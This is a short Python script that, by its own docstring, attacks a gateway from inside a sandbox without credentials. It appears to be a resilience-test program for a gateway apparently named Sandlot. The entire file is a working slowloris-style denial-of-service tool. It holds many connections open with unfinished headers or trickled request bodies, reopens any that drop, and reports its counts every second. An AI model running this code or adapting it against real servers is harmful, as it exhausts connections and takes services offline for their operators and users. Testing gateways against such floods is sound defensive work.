"""Attacks a gateway from a sandbox, without a credential: `python3 stranger_program.py JSON`.

It stands on the standard library alone. Every other connection never ends its headers, the others send a large body in
pieces. A connection that was ended is made again. Once a second it prints how many are open and how many there were.
"""

from __future__ import annotations

import asyncio
import json
import sys
from collections import Counter
from typing import Any

PIECE = 64 << 10
AGAIN = 5.0  # seconds before an ended connection is reopened
TOLD = 1.0  # seconds between two lines of output


async def hold(number: int, plan: dict[str, Any], counts: Counter[str]) -> None:
    host, port = plan["addresses"][number % len(plan["addresses"])]
    head = f"POST {plan['path']} HTTP/1.1\r\nHost: {host}\r\nX-Sandlot-Instance: i-0123456789abcdef\r\n"
    head += f"X-Sandlot-Sender: {'0' * 64}\r\nContent-Length: {plan['body']}\r\n"
    sends_body = number // len(plan["addresses"]) % 2 == 0
    while True:
        try:
            _, writer = await asyncio.open_connection(host, port)
        except OSError:
            counts["refused"] += 1
            await asyncio.sleep(AGAIN)
            continue
        counts["opened"] += 1
        counts["open"] += 1
        try:
            writer.write(f"{head}\r\n".encode() if sends_body else head.encode())
            left = plan["body"]
            while not writer.transport.is_closing():
                if sends_body and left > 0:
                    writer.write(bytes(min(PIECE, left)))
                    left -= PIECE
                    await writer.drain()
                await asyncio.sleep(1.0)
        except OSError:
            pass
        finally:
            counts["open"] -= 1
            writer.transport.abort()
        await asyncio.sleep(AGAIN)


async def main() -> None:
    plan = json.loads(sys.argv[1])
    counts: Counter[str] = Counter(open=0, opened=0, refused=0)
    async with asyncio.TaskGroup() as group:
        for number in range(plan["connections"]):
            group.create_task(hold(number, plan, counts))
        while True:
            print(json.dumps(counts), flush=True)
            await asyncio.sleep(TOLD)


if __name__ == "__main__":
    asyncio.run(main())
